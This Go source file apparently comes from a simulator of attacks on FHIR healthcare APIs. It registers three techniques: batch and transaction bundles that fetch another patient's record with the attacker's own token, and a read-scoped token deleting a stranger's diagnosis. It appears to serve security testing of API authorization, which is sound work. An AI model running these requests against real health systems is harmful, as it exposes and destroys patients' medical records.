package attacker

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"

	"thiefbox/sim/event"
)

var _ = register("F-18", Technique{
	Title: "A stranger's record inside a bundle",
	Story: "The thief sends a batch to the root of the API, and in it a request for the record of a patient who is not his. Token and proof are " +
		"in order, and all that they say is that he may send something to the root.",
	Reads:  []string{"FHIR R4 http, batch", "OWASP API1:2023"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.write(ctx, http.MethodPost, g.Target().FHIRBase, batch("GET", "Patient/"+stranger(g)), t)
		return err
	},
})

var _ = register("F-18/transaction", Technique{
	Variant: "transaction",
	Title:   "A stranger's record inside a transaction",
	Story: "As with a batch, but all or nothing: the API opens a transaction of its store and answers out of it. What was asked at the door was " +
		"whether he may send one.",
	Reads:    []string{"FHIR R4 http, transaction", "OWASP API1:2023"},
	Evidence: "A transaction that changes nothing, by a client that never sent one.",
	Has:      []event.Asset{event.OwnClient},
	Beyond:   beyondObjects,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.write(ctx, http.MethodPost, g.Target().FHIRBase, bundle("transaction", "GET", "Patient/"+stranger(g)), t)
		return err
	},
})

var _ = register("F-10", Technique{
	Variant: "delete",
	Title:   "A reader's token deletes",
	Story: "The thief's app may read. He sends a deletion of a stranger's diagnosis: an API that asks who it is and not what he wants to do " +
		"carries it out.",
	Reads: []string{"OWASP API5:2023", "SMART App Launch 2, scopes"},
	Has:   []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.write(ctx, http.MethodDelete, g.Target().FHIRBase+"/Condition/cond-"+stranger(g)+"-1", nil, t)
		return err
	},
})

// batch is a batch of one request.
func batch(method, address string) []byte { return bundle("batch", method, address) }

// bundle is a batch or a transaction of one request.
func bundle(kind, method, address string) []byte {
	type request struct {
		Method string `json:"method"`
		URL    string `json:"url"`
	}
	type entry struct {
		Request request `json:"request"`
	}
	var b bytes.Buffer
	if err := json.NewEncoder(&b).Encode(struct {
		ResourceType string  `json:"resourceType"`
		Type         string  `json:"type"`
		Entry        []entry `json:"entry"`
	}{"Bundle", kind, []entry{{request{method, address}}}}); err != nil {
		panic("attacker: " + err.Error()) // strings always marshal
	}
	return b.Bytes()
}
